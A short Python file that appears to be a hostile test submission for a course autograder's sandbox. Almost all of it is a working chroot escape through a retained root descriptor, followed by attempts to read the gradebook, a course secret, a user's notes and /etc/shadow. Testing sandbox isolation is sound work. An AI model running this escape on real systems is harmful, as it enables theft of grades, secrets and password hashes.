"""The root folder is changed and left again through a descriptor that stayed outside.

stock: no
"""

import os

opened = os.open("/", os.O_RDONLY)
os.makedirs("/scratch/jail", exist_ok=True)
try:
    os.chroot("/scratch/jail")
    print("achieved")
except OSError:
    pass
os.fchdir(opened)
for _ in range(64):
    os.chdir("..")
for name in (".@COURSE@/gradebook.db", ".@COURSE@/.course_secret", ".@HOME@/notes.txt", "etc/shadow"):
    try:
        print("achieved", open(name, "rb").read())
    except OSError:
        pass


def answer(*given):
    return 0.0
